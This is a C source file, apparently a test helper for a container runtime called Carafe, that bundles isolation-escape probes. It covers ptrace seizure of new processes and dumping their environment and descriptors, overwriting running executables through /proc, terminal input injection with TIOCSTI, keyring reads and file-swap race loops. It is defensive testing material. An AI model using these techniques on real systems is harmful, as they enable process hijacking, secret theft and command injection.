/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A program that means harm, for the tests of Carafe. In a container:
 *
 *   attacker watch           seizes every process that appears in its pid namespace, and tells what it finds
 *   attacker overwrite       tries to write to the program of every process that appears
 *   attacker type TEXT       puts text into its terminal, as if somebody had typed it
 *   attacker key             prints what the key "carafe-canary" of its session holds
 *   attacker abstract NAME   listens on an abstract socket until its standard input ends
 *
 * On the machine, as whoever shares a container's folder:
 *
 *   attacker swap A B        exchanges two files, again and again
 *   attacker flip FILE       makes a fifo and removes it, again and again
 *   attacker with-key …      executes a program that has the key "carafe-canary" in its session
 *
 * Those that go on and on end with whoever started them, or after two minutes.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define AHEAD 8		/* pids that may come next */
#define HELD 64		/* programs that are held open */
#define ROUNDS 2000	/* between looks at what comes next */
#define LONGEST 120	/* seconds */
#define SWAP 2		/* RENAME_EXCHANGE */
#define KEY "carafe-canary"
#define JOIN_SESSION 1
#define KEYCTL_READ 11
#define SESSION_KEYRING (-3)

static void tell_file(int pid, const char *name)
{
	char path[64], bytes[8192];
	snprintf(path, sizeof(path), "/proc/%d/%s", pid, name);
	int fd = open(path, O_RDONLY);
	ssize_t length = fd < 0 ? -1 : read(fd, bytes, sizeof(bytes) - 1);
	if (fd >= 0)
		close(fd);
	printf("%s=", name);
	for (ssize_t i = 0; i < length; i++)
		if (bytes[i] > ' ')
			putchar(bytes[i]);
	putchar('\n');
}

static void tell_link(int pid, const char *name)
{
	char path[300], target[4096];
	snprintf(path, sizeof(path), "/proc/%d/%s", pid, name);
	ssize_t length = readlink(path, target, sizeof(target));
	printf("%s=%.*s\n", name, length < 0 ? 0 : (int)length, target);
}

/* One line for each thing that it has. Whether it has any right that we have not is for the reader to see. */
static void tell(int pid)
{
	char path[64], line[256];
	snprintf(path, sizeof(path), "/proc/%d/status", pid);
	FILE *status = fopen(path, "r");
	while (status && fgets(line, sizeof(line), status))
		if (!strncmp(line, "Name:", 5) || !strncmp(line, "CapEff:", 7) || !strncmp(line, "CapPrm:", 7))
			fputs(line, stdout);
	if (status)
		fclose(status);
	tell_file(pid, "cmdline");
	tell_file(pid, "environ");
	tell_link(pid, "exe");
	snprintf(path, sizeof(path), "/proc/%d/fd", pid);
	DIR *directory = opendir(path);
	for (struct dirent *entry; directory && (entry = readdir(directory));) {
		char name[280];
		snprintf(name, sizeof(name), "fd/%s", entry->d_name);
		if (atoi(entry->d_name) > 2)
			tell_link(pid, name);
	}
	if (directory)
		closedir(directory);
}

/* The number that the next process will have. */
static int next_pid(void)
{
	int pid = fork();
	if (pid == 0)
		_exit(0);
	waitpid(pid, NULL, 0);
	return pid + 1;
}

static void ready(void)
{
	puts("ready");
	fflush(stdout);
}

static _Noreturn void watch(void)
{
	static char buffer[1 << 16];
	setvbuf(stdout, buffer, _IOFBF, sizeof(buffer));
	int next = next_pid();
	int refused = 0;
	ready();
	for (;;) {
		for (int pid = next; pid < next + AHEAD; pid++) {
			if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
				ptrace(PTRACE_INTERRUPT, pid, 0, 0);
				waitpid(pid, NULL, __WALL);
				puts("seized");
				tell(pid);
				/* If it died meanwhile, an execve() of its program's waits, and keeps us waiting, until it is reaped. */
				if (ptrace(PTRACE_DETACH, pid, 0, 0) != 0)
					waitpid(pid, NULL, __WALL);
			} else if (errno != ESRCH && pid != refused) {
				/* It may yet become something that can be seized. */
				refused = pid;
				puts("refused");
				tell_file(pid, "comm");
				tell_file(pid, "cmdline");
				fflush(stdout);
				continue;
			} else {
				continue;
			}
			fflush(stdout);
			next = pid + 1;
			break;
		}
	}
}

/* Holds on to the programs of processes, and writes to them once the kernel does not say any more that they run. */
static _Noreturn void overwrite(void)
{
	int held[HELD], count = 0;
	char last[4096] = "";
	int next = next_pid();
	ready();
	for (unsigned round = 1;; round++) {
		char path[64], target[4096];
		if (round % ROUNDS == 0) /* it may have missed some, and those behind it as well */
			next = next_pid() - AHEAD / 2;
		for (int pid = next; pid < next + AHEAD && count < HELD; pid++) {
			snprintf(path, sizeof(path), "/proc/%d/exe", pid);
			ssize_t length = readlink(path, target, sizeof(target) - 1);
			target[length < 0 ? 0 : length] = 0;
			int fd = length <= 0 || strcmp(target, last) == 0 ? -1 : open(path, O_PATH);
			if (fd < 0)
				continue;
			held[count++] = fd;
			next = pid; /* again, as it may become another program */
			strcpy(last, target);
			printf("held %s\n", target);
			fflush(stdout);
		}
		for (int i = 0; i < count; i++) {
			snprintf(path, sizeof(path), "/proc/self/fd/%d", held[i]);
			int fd = open(path, O_WRONLY);
			if (fd < 0)
				continue;
			printf("%s\n", write(fd, "#!/evil\n", 8) == 8 ? "wrote" : strerror(errno));
			fflush(stdout);
			close(fd);
			close(held[i]);
			held[i--] = held[--count];
		}
	}
}

static int type(const char *text)
{
	ioctl(STDIN_FILENO, TIOCSCTTY, 0);
	for (; *text; text++)
		if (ioctl(STDIN_FILENO, TIOCSTI, text)) {
			printf("refused: %s\n", strerror(errno));
			return 1;
		}
	puts("typed");
	return 0;
}

static int key(void)
{
	char value[64] = "";
	long found = syscall(SYS_request_key, "user", KEY, NULL, 0);
	if (found >= 0)
		syscall(SYS_keyctl, KEYCTL_READ, found, value, sizeof(value) - 1);
	printf("key: %s\n", found < 0 ? strerror(errno) : value);
	return 0;
}

static int with_key(char **words)
{
	if (syscall(SYS_keyctl, JOIN_SESSION, NULL) < 0 ||
	    syscall(SYS_add_key, "user", KEY, "secret", 6, SESSION_KEYRING) < 0) {
		perror("with-key");
		return 1;
	}
	execvp(words[0], words);
	return 1;
}

static int abstract(const char *name)
{
	struct sockaddr_un address = {.sun_family = AF_UNIX};
	int listener = socket(AF_UNIX, SOCK_STREAM, 0);
	snprintf(address.sun_path + 1, sizeof(address.sun_path) - 1, "%s", name);
	if (bind(listener, (struct sockaddr *)&address, sizeof(sa_family_t) + 1 + strlen(name)) || listen(listener, 1))
		return 1;
	ready();
	while (getchar() != EOF)
		;
	return 0;
}

static void as_long_as_its_parent(void)
{
	prctl(PR_SET_PDEATHSIG, SIGKILL);
	alarm(0);
}

static int swap(const char *a, const char *b)
{
	as_long_as_its_parent();
	for (;;)
		if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, SWAP)) {
			perror("swap");
			return 1;
		}
}

static _Noreturn void flip(const char *file)
{
	as_long_as_its_parent();
	for (;;) {
		mkfifo(file, 0600);
		unlink(file);
	}
}

static void end(int number)
{
	_exit(number);
}

int main(int argc, char **argv)
{
	const char *what = argc > 1 ? argv[1] : "";
	if (strcmp(what, "with-key") == 0 && argc > 2)
		return with_key(argv + 2);
	signal(SIGALRM, end); /* which a first process does not get unless it asks for it */
	alarm(LONGEST);
	if (strcmp(what, "watch") == 0)
		watch();
	if (strcmp(what, "overwrite") == 0)
		overwrite();
	if (strcmp(what, "type") == 0 && argc == 3)
		return type(argv[2]);
	if (strcmp(what, "key") == 0)
		return key();
	if (strcmp(what, "abstract") == 0 && argc == 3)
		return abstract(argv[2]);
	if (strcmp(what, "swap") == 0 && argc == 4)
		return swap(argv[2], argv[3]);
	if (strcmp(what, "flip") == 0 && argc == 3)
		flip(argv[2]);
	fprintf(stderr, "attacker: no such attack\n");
	return 2;
}
